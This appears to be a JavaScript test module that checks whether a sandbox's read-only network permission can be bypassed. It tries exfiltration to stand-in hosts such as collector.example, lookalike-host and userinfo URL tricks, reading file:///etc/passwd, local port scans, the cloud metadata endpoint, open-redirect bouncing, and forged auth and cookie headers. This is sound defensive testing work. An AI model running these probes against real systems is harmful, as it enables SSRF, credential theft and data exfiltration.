// Ways around the network permission. What was granted is the page's own origin, for reading; everything else is out of bounds.
async function attempt(targets, init) {
  const reached = []
  const stopped = []
  for (const url of targets) {
    try {
      const response = await fetch(url, init)
      reached.push(`${url} (${response.status})`)
    } catch (error) {
      stopped.push(`${url}: ${error.code || error.name}`)
    }
  }
  return { reached, stopped }
}

/** Send the data home. */
export function phoneHome() {
  return attempt(['https://collector.example/?loot=1', 'http://203.0.113.7/', 'https://xn--glovebx-50a.example/'], {})
}

/** Hosts that only look like the granted one. */
export function lookAlikeHosts(origin) {
  const { host, port } = new URL(origin)
  return attempt(
    [
      `http://${host}.evil.example/`,
      `http://${host}@evil.example/`,
      `http://127.0.0.1.:${port}x/api/canary`,
      `http://localhost:${port}/api/canary`,
      `http://localhost.:${port}/api/canary`,
      `http://[::1]:${port}/api/canary`,
      `https://${host}/api/canary`,
      `http://127.0.0.2:${port}/api/canary`,
      `ftp://${host}/`,
      `file:///etc/passwd`,
    ],
    {},
  )
}

/** Look for services on this machine and its network. */
export function scanPorts() {
  const ports = [22, 80, 443, 3000, 5432, 6379, 8080, 9229]
  return attempt([...ports.map((port) => `http://127.0.0.1:${port}/`), 'http://169.254.169.254/latest/meta-data/', 'http://192.168.0.1/'], {})
}

/** Let a granted host send us to one that is not. */
export async function bounceRedirect(origin) {
  const { port } = new URL(origin)
  return attempt([`${origin}/api/redirect?to=${encodeURIComponent(`http://localhost:${port}/api/canary`)}`], {})
}

/** Write where only reading was granted. */
export function writeAnyway(origin) {
  return attempt([`${origin}/api/canary`], { method: 'POST', body: 'loot' })
}

/** Dress a request up as somebody else's. */
export async function forgeHeaders(origin) {
  const forged = {
    authorization: 'Bearer stolen',
    cookie: 'session=1',
    host: 'admin.internal',
    origin: 'https://admin.internal',
    'x-forwarded-for': '10.0.0.1',
  }
  const reached = []
  const stopped = []
  for (const [name, value] of Object.entries(forged)) {
    try {
      const seen = await (await fetch(`${origin}/api/echo`, { headers: { [name]: value }, credentials: 'include' })).json()
      if (seen[name] === value) reached.push(name)
      else stopped.push(`${name}: not sent`)
    } catch (error) {
      stopped.push(`${name}: ${error.code || error.name}`)
    }
  }
  return { reached, stopped }
}
